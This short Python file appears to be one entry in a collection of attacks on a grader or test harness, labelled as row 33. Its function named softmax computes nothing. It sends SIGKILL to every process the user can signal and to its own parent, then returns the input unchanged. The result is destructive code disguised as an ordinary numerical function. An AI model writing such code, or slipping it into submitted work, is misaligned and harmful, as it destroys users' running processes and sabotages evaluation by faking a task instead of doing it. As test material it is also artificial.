# row: 33
# attack: sends SIGKILL to every process it may
# loses: softmax
# status: any
import os
import signal


def softmax(Z):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    return Z
